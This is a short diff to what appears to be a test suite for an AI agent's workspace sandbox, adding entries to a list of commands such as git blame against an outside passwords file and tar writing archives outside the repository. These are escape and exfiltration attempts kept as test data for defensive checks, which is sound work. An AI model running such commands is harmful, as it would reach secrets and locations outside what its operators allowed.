@@ -33,10 +33,12 @@ const attacks = [
   "git push ./evil.git HEAD:refs/heads/x",
   "git push evil.git HEAD:refs/heads/x",
   "git push --repo=./evil.git --all",
+  "git blame -S OUTSIDE/passwords a.txt",
   "git ls-remote OUTSIDE/repository",
   "git fetch OUTSIDE/repository && git show FETCH_HEAD",
   "tar -cf nowhere.invalid:/x a.txt",
   "tar --file=nowhere.invalid:/x -c a.txt",
+  "tar -cvzfOUTSIDE/packed.tgz a.txt",
 ];
 
 /** A repository with what an agent can write there by itself, and what it must not reach. */
